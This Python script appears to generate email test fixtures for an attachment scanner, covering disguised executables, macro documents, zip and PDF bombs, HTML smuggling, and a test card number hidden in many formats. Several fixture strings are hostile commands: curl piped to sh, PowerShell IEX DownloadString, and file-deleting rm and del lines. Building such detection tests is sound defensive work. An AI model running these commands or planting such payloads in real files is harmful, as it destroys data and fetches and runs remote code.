#!/usr/bin/env python3
"""gen_attach_fixtures.py OUTDIR [NAME...] - build the attachment test messages

Writes OUTDIR/<name>.eml, one message per fixture, each with one
attachment as MIME part 2, plus OUTDIR/sizes.txt ("name bytes" lines)
for the limit tests, and OUTDIR/mixed.eml: a card number in the text, in
a file uuencoded into it, in a zip, a docx, a pdf and a forwarded message
(tests/test_faults.c). With NAMEs, only those messages are written.
Python standard library only; deterministic.
"""
import io
import os
import struct
import sys
import zipfile
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText

PAN = "4111 1111 1111 1111"  # Visa test number: valid prefix, length, Luhn
FIXED = (2024, 1, 1, 0, 0, 0)


def pe_bytes():
    b = bytearray(1024)
    b[0:2] = b"MZ"
    struct.pack_into("<I", b, 0x3C, 0x80)
    b[0x40:0x40 + 39] = b"This program cannot be run in DOS mode."
    b[0x80:0x84] = b"PE\0\0"
    # COFF: i386, 1 section, optional header 0xE0, executable 32-bit
    struct.pack_into("<HHIIIHH", b, 0x84, 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    struct.pack_into("<H", b, 0x98, 0x10B)  # PE32 optional header
    struct.pack_into("<H", b, 0x98 + 68, 3)  # console subsystem
    return bytes(b)


def elf_bytes():
    b = bytearray(128)
    b[0:4] = b"\x7fELF"
    b[4], b[5], b[6] = 2, 1, 1
    struct.pack_into("<HHIQQQIHHHHHH", b, 16, 2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return bytes(b)


def zipped(members, compress=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, FIXED)
            info.compress_type = compress
            z.writestr(info, data)
    return out.getvalue()


def xml(body):
    return '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + body


def docx(paragraphs, extra=(), custom=None):
    ct = xml('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Default Extension="xml" ContentType="application/xml"/>'
             '<Override PartName="/word/document.xml" ContentType="application/'
             'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    body = "".join('<w:p><w:r><w:t>%s</w:t></w:r></w:p>' % p for p in paragraphs)
    doc = xml('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
              '<w:body>%s</w:body></w:document>' % body)
    core = xml('<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
               'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
               '<dc:title>Quarterly notes</dc:title></cp:coreProperties>')
    members = [("[Content_Types].xml", ct), ("word/document.xml", doc), ("docProps/core.xml", core)]
    if custom:
        props = "".join('<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="%d" '
                        'name="%s"><vt:lpwstr>%s</vt:lpwstr></property>' % (i + 2, k, v)
                        for i, (k, v) in enumerate(custom))
        members.append(("docProps/custom.xml", xml(
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
            'custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/'
            '2006/docPropsVTypes">%s</Properties>' % props)))
    return zipped(members + list(extra))


def filler(n, seed):
    """About n bytes of words that deflate like prose (not to nothing)."""
    import random
    r = random.Random(seed)
    words = ["order", "shipping", "invoice", "meeting", "agenda", "status", "review",
             "budget", "travel", "report", "weekly", "update", "numbers", "draft"]
    out, size = [], 0
    while size < n:
        w = r.choice(words) + ("%d" % r.randrange(100) if r.random() < 0.3 else "")
        out.append(w)
        size += len(w) + 1
    return " ".join(out)


def damage_deflate(data, member):
    """Overwrite bytes half way into the deflate data of member."""
    b = bytearray(data)
    i = b.find(b"PK\x03\x04")
    while i >= 0:
        csize, = struct.unpack_from("<I", b, i + 18)
        nlen, xlen = struct.unpack_from("<HH", b, i + 26)
        start = i + 30 + nlen + xlen
        if b[i + 30:i + 30 + nlen] == member.encode():
            mid = start + csize // 2
            b[mid:mid + 64] = bytes((x * 37 + 11) & 0xFF for x in range(64))
            return bytes(b)
        i = b.find(b"PK\x03\x04", start + csize)
    raise ValueError(member)


def xlsx(strings):
    ct = xml('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Default Extension="xml" ContentType="application/xml"/></Types>')
    sst = xml('<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">%s</sst>'
              % "".join("<si><t>%s</t></si>" % s for s in strings))
    sheet = xml('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<sheetData>%s</sheetData></worksheet>'
                % "".join('<row r="%d"><c r="A%d" t="s"><v>%d</v></c></row>' % (i + 1, i + 1, i)
                          for i in range(len(strings))))
    return zipped([("[Content_Types].xml", ct), ("xl/sharedStrings.xml", sst),
                   ("xl/worksheets/sheet1.xml", sheet)])


def odt(paragraphs):
    content = xml('<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:'
                  'office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
                  '<office:body><office:text>%s</office:text></office:body>'
                  '</office:document-content>'
                  % "".join("<text:p>%s</text:p>" % p for p in paragraphs))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype", FIXED), "application/vnd.oasis.opendocument.text")
        info = zipfile.ZipInfo("content.xml", FIXED)
        info.compress_type = zipfile.ZIP_DEFLATED
        z.writestr(info, content)
    return out.getvalue()


def pdf(pages, encrypt=False):
    """A minimal valid PDF, one content stream per page, Helvetica."""
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", None]
    kids = []
    for lines in pages:
        text = "BT /F1 11 Tf 14 TL 72 760 Td " + " ".join(
            "(%s) Tj T*" % l.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
            for l in lines) + " ET"
        objs.append(None)
        page_no = len(objs)
        objs.append("<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text))
        objs[page_no - 1] = ("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources "
                             "<< /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>"
                             % (2 * len(pages) + 3, page_no + 1))
        kids.append("%d 0 R" % page_no)
    objs[1] = "<< /Type /Pages /Kids [%s] /Count %d >>" % (" ".join(kids), len(pages))
    objs.append("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    trailer_extra = ""
    if encrypt:  # standard security handler, a user password that is not empty
        objs.append("<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -44 >>"
                    % ("11" * 32, "22" * 32))
        trailer_extra = " /Encrypt %d 0 R /ID [<%s> <%s>]" % (len(objs), "33" * 16, "33" * 16)
    return pdf_objects(objs, trailer_extra)


def pdf_objects(objs, trailer_extra=""):
    """A PDF of these objects (object 1 the catalog), with its xref;
    trailer_extra goes into the trailer dictionary."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, o in enumerate(objs):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (i + 1, o.encode("latin-1"))
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objs) + 1, trailer_extra.encode(), xref)
    return bytes(out)


def pdf_xobject_bomb(depth, fan):
    """One page drawing a form XObject fan times, each form drawing the
    next fan times, depth deep, the last a line of text: fan**depth lines
    on a page of a few KB."""
    stream = "<< %s/Length %d >>\nstream\n%s\nendstream"
    form = "/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
    font = "/Font << /F1 3 0 R >>"
    objs = ["<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources "
            "<< /XObject << /X 6 0 R >> >> /Contents 5 0 R >>"]
    draw = "q /X Do Q\n" * fan
    objs.append(stream % ("", len(draw), draw))
    for level in range(depth):
        n = len(objs) + 1
        if level == depth - 1:
            text = "BT /F1 11 Tf 72 700 Td (Quarterly figures, page one) Tj ET"
            objs.append(stream % (form + "/Resources << %s >> " % font, len(text), text))
        else:
            objs.append(stream % (form + "/Resources << /XObject << /X %d 0 R >> >> " % (n + 1),
                                  len(draw), draw))
    return pdf_objects(objs)


def pdf_drawn(content, box="0 0 612 792", page_extra="", forms=()):
    """One page of this content (Helvetica as /F1), drawing form XObjects
    /X0, /X1... of these (content, /Matrix) pairs."""
    stream = "<< %s/Length %d >>\nstream\n%s\nendstream"
    objs = ["<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [%s] %s/Resources << /Font << /F1 3 0 R >> "
            "/XObject << %s >> >> /Contents 5 0 R >>" % (box, page_extra, " ".join(
                "/X%d %d 0 R" % (i, 6 + i) for i in range(len(forms)))),
            stream % ("", len(content), content)]
    for text, matrix in forms:
        objs.append(stream % ("/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Matrix [%s] "
                              "/Resources << /Font << /F1 3 0 R >> >> " % matrix, len(text), text))
    return pdf_objects(objs)


def encrypt_zip_flags(data):
    """Mark every entry encrypted (traditional PKWARE, general flag bit 0)."""
    b = bytearray(data)
    i = 0
    while True:
        i = b.find(b"PK\x03\x04", i)
        if i < 0:
            break
        b[i + 6] |= 1
        i += 4
    i = 0
    while True:
        i = b.find(b"PK\x01\x02", i)
        if i < 0:
            break
        b[i + 8] |= 1
        i += 4
    return bytes(b)


def png_bytes():
    import zlib
    raw = b"\x00\xff\x00\x00" * 1
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def jpeg_bytes():
    return (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00H\x00H\x00\x00"
            b"\xff\xdb\x00\x43\x00" + bytes(range(1, 65)) + b"\xff\xd9")


def ole_bytes(names):
    b = bytearray(b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + b"\0" * 504)
    for n in names:
        entry = n.encode("utf-16-le").ljust(64, b"\0")
        b += entry + b"\0" * 64
    return bytes(b)


def message(name, ctype, data, fname):
    m = MIMEMultipart()
    m["From"] = "alice@example.com"
    m["To"] = "bob@example.org"
    m["Subject"] = "The file"
    m.attach(MIMEText("Here is the file we talked about.\n"))
    maintype, sub = ctype.split("/")
    if maintype == "text":
        part = MIMEText(data.decode("utf-8"), sub)
    else:
        part = MIMEApplication(data, sub)
        part.replace_header("Content-Type", ctype)
    part.add_header("Content-Disposition", "attachment", filename=fname)
    m.attach(part)
    return m.as_bytes()


def mixed_message(csv_pan):
    """Every attachment path at once, each holding the card number."""
    import binascii
    m = MIMEMultipart()
    m["From"] = "alice@example.com"
    m["To"] = "bob@example.org"
    m["Subject"] = "Order details"
    notes = b"Card on file: " + PAN.encode() + b"\n"
    uu = b"begin 644 notes.txt\n" + binascii.b2a_uu(notes) + b"`\nend\n"
    m.attach(MIMEText("Card for the order: %s exp 04/29\n\n" % PAN + uu.decode()))
    card_msg = inner_message(("text/plain", ("Card: %s exp 04/29\n" % PAN).encode(), ""))
    for ctype, data, fname in [
            ("application/zip", zipped([("cards.csv", csv_pan)]), "cards.zip"),
            ("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
             docx(["Customer card on file:", "Card " + PAN]), "cards.docx"),
            ("application/pdf", pdf([["Billing details", "Card: " + PAN]]), "cards.pdf"),
            ("message/rfc822", card_msg, "fwd.eml")]:
        part = MIMEApplication(data, ctype.split("/")[1])
        part.replace_header("Content-Type", ctype)
        part.add_header("Content-Disposition", "attachment", filename=fname)
        m.attach(part)
    return m.as_bytes()


def inner_message(*parts):
    """A whole message (bytes) to attach: one text part, or a multipart of
    (ctype, bytes, filename) parts."""
    if len(parts) == 1:
        ctype, data, _ = parts[0]
        m = MIMEText(data.decode("utf-8"), ctype.split("/")[1])
    else:
        m = MIMEMultipart("mixed")
        for ctype, data, fname in parts:
            maintype, sub = ctype.split("/")
            if maintype == "text":
                p = MIMEText(data.decode("utf-8"), sub)
            else:
                p = MIMEApplication(data, sub)
                p.add_header("Content-Disposition", "attachment", filename=fname)
            m.attach(p)
    m["From"] = "carol@example.net"
    m["To"] = "alice@example.com"
    m["Subject"] = "Order details"
    return m.as_bytes()


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    pe, elf = pe_bytes(), elf_bytes()
    csv_pan = ("name,card\nDana Weber,%s\n" % PAN).encode()
    bomb = zipped([("zeros.bin", b"\0" * (20 * 1024 * 1024))])
    inner = zipped([("inner.csv", csv_pan)])
    mid = zipped([("inner.zip", inner)])
    five = zipped([("m%d.txt" % i, b"hello\n") for i in range(5)])
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w", zipfile.ZIP_STORED) as z:
        for i in range(100000):
            z.writestr(zipfile.ZipInfo("f%d" % i, FIXED), b"")
    fixtures = {
        "pe_renamed": ("application/pdf", pe, "invoice.pdf"),
        "pe_exe": ("application/octet-stream", pe, "setup.exe"),
        "elf": ("application/octet-stream", elf, "update.bin"),
        "script_vbs": ("text/vbscript", b'Set sh = CreateObject("WScript.Shell")\r\n', "fix.vbs"),
        "script_sh": ("application/x-sh", b"#!/bin/sh\ncurl -s https://x.example/a | sh\n",
                      "fix.sh"),
        "script_sh_txt": ("text/plain", b"#!/bin/sh\nrm -rf \"$HOME\"/Documents\n", "notes.txt"),
        "script_bat_txt": ("text/plain", b"@echo off\r\ndel /q C:\\Users\\*\r\n", "readme.txt"),
        "text_txt": ("text/plain", b"Minutes of the Tuesday meeting.\nNext steps: none.\n",
                     "minutes.txt"),
        "script_ps1": ("application/octet-stream",
                       b"$c = New-Object Net.WebClient\r\nIEX $c.DownloadString('http://x')\r\n",
                       "clean.ps1"),
        "macro_docx": ("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                       docx(["Please enable content."],
                            extra=[("word/vbaProject.bin", ole_bytes(["_VBA_PROJECT"]))]),
                       "report.docm"),
        "macro_ole": ("application/msword", ole_bytes(["Macros", "VBA", "_VBA_PROJECT"]),
                      "old.doc"),
        "zip_exe": ("application/zip", zipped([("readme.txt", b"see setup\n"), ("setup.exe", pe)]),
                    "order.zip"),
        "docx_pan": ("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                     docx(["Customer card on file:", "Card " + PAN]), "cards.docx"),
        "xlsx_pan": ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                     xlsx(["Card number", PAN]), "cards.xlsx"),
        "odt_pan": ("application/vnd.oasis.opendocument.text", odt(["Card: " + PAN]), "cards.odt"),
        "pdf_pan": ("application/pdf", pdf([["Billing details", "Card: " + PAN]]), "cards.pdf"),
        "docx_conf": ("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                      docx(["CONFIDENTIAL", "Board minutes"]), "minutes.docx"),
        "xlsx_conf": ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                      xlsx(["CONFIDENTIAL", "Salaries"]), "salaries.xlsx"),
        "odt_conf": ("application/vnd.oasis.opendocument.text", odt(["CONFIDENTIAL", "Plan"]),
                     "plan.odt"),
        "pdf_conf": ("application/pdf", pdf([["CONFIDENTIAL", "Merger plan"]]), "plan.pdf"),
        "msip_docx": ("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                      docx(["Lunch menu"], custom=[
                          ("MSIP_Label_3a402f04-5007-ef5b-ac62-274f9065a302_Enabled", "true"),
                          ("MSIP_Label_3a402f04-5007-ef5b-ac62-274f9065a302_Name",
                           "Confidential")]), "menu.docx"),
        "enc_zip": ("application/zip", encrypt_zip_flags(zipped([("secret.csv", csv_pan)],
                                                                zipfile.ZIP_STORED)),
                    "secret.zip"),
        "enc_pdf": ("application/pdf", pdf([["Secret"]], encrypt=True), "secret.pdf"),
        "enc_office": ("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                       ole_bytes(["EncryptionInfo", "EncryptedPackage"]), "secret.docx"),
        "nested_zip": ("application/zip", zipped([("mid.zip", mid)]), "outer.zip"),
        "gz_csv": ("application/gzip", __import__("gzip").compress(csv_pan, mtime=0),
                   "cards.csv.gz"),
        "tar_csv": ("application/x-tar", None, "cards.tar"),
        "bomb": ("application/zip", bomb, "bomb.zip"),
        "many_members": ("application/zip", many.getvalue(), "many.zip"),
        "five_members": ("application/zip", five, "five.zip"),
        "one_kib": ("application/zip", zipped([("kib.txt", b"x" * 1000)]), "kib.zip"),
        "blob_1000": ("application/octet-stream", bytes(range(250)) * 4, "blob.bin"),
        "pdf_two_pages": ("application/pdf", pdf([["Page one"], ["Page two"]]), "two.pdf"),
        "html_smuggling": ("text/html", b"<html><script>var b = new Blob([atob('AAAA')]);"
                           b"var a = document.createElement('a');"
                           b"a.href = URL.createObjectURL(b); a.download = 'x.iso';"
                           b"a.click();</script></html>", "doc.html"),
        "pdf_js": ("application/pdf", pdf([["Hello"]]).replace(
            b"<< /Type /Catalog", b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> "
            b"/Type /Catalog"), "form.pdf"),
        "benign_pdf": ("application/pdf", pdf([["Agenda for Monday", "Room 4, 10:00"]]),
                       "agenda.pdf"),
        "benign_png": ("image/png", png_bytes(), "chart.png"),
        "benign_jpeg": ("image/jpeg", jpeg_bytes(), "photo.jpg"),
        "benign_docx": ("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                        docx(["Meeting notes", "Order 1234-5678 shipped"]), "notes.docx"),
        "benign_zip": ("application/zip", zipped([("readme.txt", b"Nothing to see.\n")]),
                       "readme.zip"),
    }
    # past what is read of one member: the body over max_bytes (200 KB of
    # prose, the card at its end), properties past 64 KiB (a label last)
    fixtures["docx_big_body"] = (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        docx([filler(200000, 1), "Card " + PAN]), "long.docx")
    fixtures["docx_big_props"] = (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        docx(["Lunch menu"], custom=[("Note%d" % i, filler(1000, i)) for i in range(100)] + [
            ("MSIP_Label_3a402f04-5007-ef5b-ac62-274f9065a302_Name", "Confidential")]),
        "menu.docx")
    # deflate data damaged half way (the card after the damage)
    fixtures["zip_damaged"] = ("application/zip", damage_deflate(zipped([
        ("notes.txt", (filler(100000, 2) + "\nCard " + PAN + "\n").encode())]), "notes.txt"),
        "notes.zip")
    # form XObjects 6 deep, each drawn 10 times: a million lines of text
    fixtures["pdf_xobject_bomb"] = ("application/pdf", pdf_xobject_bomb(6, 10), "bomb.pdf")
    # text drawn off the page (poppler drops it) and text on it
    seen = "BT /F1 11 Tf 72 740 Td (Statement) Tj ET "
    card = "(Card: %s) Tj ET" % PAN
    off = {
        "pdf_off_x": seen + "BT /F1 11 Tf 100000 700 Td " + card,
        "pdf_off_negx": seen + "BT /F1 11 Tf -1000000000 700 Td " + card,
        "pdf_off_y": seen + "BT /F1 11 Tf 72 -500 Td " + card,
        "pdf_off_tm": seen + "BT /F1 11 Tf 1000000 0 0 1000000 0 0 Tm " + card,
        "pdf_off_kern": seen + "BT /F1 11 Tf 72 700 Td [(Total) -10000000 (Card: %s)] TJ ET" % PAN,
    }
    for name, content in off.items():
        fixtures[name] = ("application/pdf", pdf_drawn(content), name[4:] + ".pdf")
    fixtures["pdf_off_form"] = ("application/pdf", pdf_drawn(seen + "q /X0 Do Q", forms=[
        ("q 1 0 0 1 50000 0 cm BT /F1 11 Tf 72 700 Td " + card + " Q", "1 0 0 1 0 0")]),
        "form.pdf")
    words = "(Quarterly figures, as agreed) Tj"
    fixtures["pdf_edge"] = ("application/pdf", pdf_drawn(
        "BT /F1 11 Tf 2 2 Td (1) Tj ET BT /F1 11 Tf 560 780 Td %s ET "
        "BT /F1 11 Tf -20 400 Td %s ET" % (words, words)), "edge.pdf")
    fixtures["pdf_rotated"] = ("application/pdf", pdf_drawn(
        "q 0 1 -1 0 612 0 cm BT /F1 11 Tf 72 500 Td %s ET Q" % words, page_extra="/Rotate 90 "),
        "rotated.pdf")
    fixtures["pdf_a0"] = ("application/pdf", pdf_drawn(
        "BT /F1 96 Tf 100 3200 Td %s ET BT /F1 11 Tf 2000 72 Td %s ET" % (words, words),
        box="0 0 2384 3370"), "poster.pdf")
    fixtures["pdf_form_on_page"] = ("application/pdf", pdf_drawn(
        "q /X0 Do Q q 0.5 0 0 0.5 300 0 cm /X0 Do Q", forms=[
            ("BT /F1 11 Tf 72 700 Td %s T* %s ET" % (words, words), "1 0 0 1 0 -100")]),
        "forms.pdf")
    # a file uuencoded into a text attachment
    import binascii
    uu_pe = b"begin 644 setup.exe\n" + b"".join(
        binascii.b2a_uu(pe[i:i + 45]) for i in range(0, len(pe), 45)) + b"`\nend\n"
    fixtures["uu_pe"] = ("text/plain", b"Install this:\n\n" + uu_pe, "notes.txt")
    # messages as attachments: base64 message/rfc822 (left whole by the
    # MIME parser), an .eml sent as a file, and one nested past the depth
    card_msg = inner_message(("text/plain", ("Card: %s exp 04/29\n" % PAN).encode(), ""))
    fixtures["msg_b64"] = ("message/rfc822", card_msg, "fwd.eml")
    fixtures["eml_octet"] = ("application/octet-stream", inner_message(
        ("text/plain", b"See the attachment.\n", ""),
        ("text/html", ("<p>card <b>%s</b></p>\n" % PAN).encode(), ""),
        ("application/octet-stream", pe, "setup.exe")), "forwarded.eml")
    deep = card_msg
    for _ in range(10):
        m = MIMEMultipart()
        m["Subject"] = "Fwd"
        m.attach(MIMEText("forwarded\n"))
        p = MIMEApplication(deep, "octet-stream")
        p.replace_header("Content-Type", "message/rfc822")
        m.attach(p)
        deep = m.as_bytes()
    fixtures["msg_deep"] = ("message/rfc822", deep, "fwd.eml")
    tar = io.BytesIO()
    import tarfile
    with tarfile.open(fileobj=tar, mode="w", format=tarfile.USTAR_FORMAT) as t:
        ti = tarfile.TarInfo("cards.csv")
        ti.size, ti.mtime = len(csv_pan), 0
        t.addfile(ti, io.BytesIO(csv_pan))
    fixtures["tar_csv"] = ("application/x-tar", tar.getvalue(), "cards.tar")
    only = set(sys.argv[2:])
    sizes = []
    for name, (ctype, data, fname) in sorted(fixtures.items()):
        sizes.append("%s %d\n" % (name, len(data)))
        if only and name not in only:
            continue
        with open(os.path.join(out, name + ".eml"), "wb") as f:
            f.write(message(name, ctype, data, fname))
    with open(os.path.join(out, "sizes.txt"), "w") as f:
        f.writelines(sizes)
    if not only or "mixed" in only:
        with open(os.path.join(out, "mixed.eml"), "wb") as f:
            f.write(mixed_message(csv_pan))


if __name__ == "__main__":
    main()
